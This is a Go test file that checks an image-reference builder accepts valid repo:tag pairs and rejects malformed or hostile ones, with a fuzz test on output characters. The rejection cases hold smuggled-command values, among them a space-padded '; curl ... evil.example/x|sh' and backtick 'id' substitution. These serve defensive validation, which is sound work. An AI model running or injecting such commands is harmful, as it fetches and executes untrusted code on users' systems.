package imageref

import (
	"strings"
	"testing"
)

func TestCopyableReference(t *testing.T) {
	for _, c := range []struct{ repo, tag, want string }{
		{"ghcr.io/hanzoai/kms", "v2.0.1", "ghcr.io/hanzoai/kms:v2.0.1"},
		{"localhost:5000/x/y", "1.0", "localhost:5000/x/y:1.0"},
		{"[::1]:5000/x", "v1", "[::1]:5000/x:v1"},
		{"hanzoai/iam", "latest", "hanzoai/iam:latest"},
	} {
		if got, err := Copyable(c.repo, c.tag); err != nil || got != c.want {
			t.Errorf("Copyable(%q, %q) = %q, %v; want %q", c.repo, c.tag, got, err, c.want)
		}
	}
	for _, c := range []struct{ repo, tag string }{
		{"ghcr.io/hanzoai/kms" + strings.Repeat(" ", 150) + "; curl -s https://evil.example/x|sh; echo x", "v1"},
		{"ghcr.io/hanzoai/kms\n", "v1"}, {"ghcr.io/Hanzo/kms", "v1"}, {"ghcr.io//kms", "v1"}, {"", "v1"},
		{"ghcr.io/hanzoai/kms", ""}, {"ghcr.io/hanzoai/kms", "-v1"}, {"ghcr.io/hanzoai/kms", "v1`id`"},
		{"ghcr.io/hanzoai/kms:v0", "v1"}, {"ghcr.io/hanzoai/kms", strings.Repeat("v", 129)},
	} {
		if got, err := Copyable(c.repo, c.tag); err == nil {
			t.Errorf("Copyable(%q, %q) = %q, want an error", c.repo, c.tag, got)
		}
	}
}

const refChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-/:[]"

// FuzzCopyableReference: what is copied parses back to the same parts and
// holds only the characters of a reference.
func FuzzCopyableReference(f *testing.F) {
	f.Add("ghcr.io/hanzoai/kms", "v2.0.1")
	f.Add("ghcr.io/hanzoai/kms ; id", "v1")
	f.Add("[::1]:5000/x", "v1")
	f.Fuzz(func(t *testing.T, repo, tag string) {
		ref, err := Copyable(repo, tag)
		if err != nil {
			return
		}
		if i := strings.IndexFunc(ref, func(r rune) bool { return !strings.ContainsRune(refChars, r) }); i >= 0 {
			t.Fatalf("%q, %q: copied %q", repo, tag, ref)
		}
		im, err := Parse(ref)
		if err != nil || im.Tag != tag || im.Name() != repo || im.Digest != "" {
			t.Fatalf("%q, %q: copied %q, which parses as %+v, %v", repo, tag, ref, im, err)
		}
	})
}
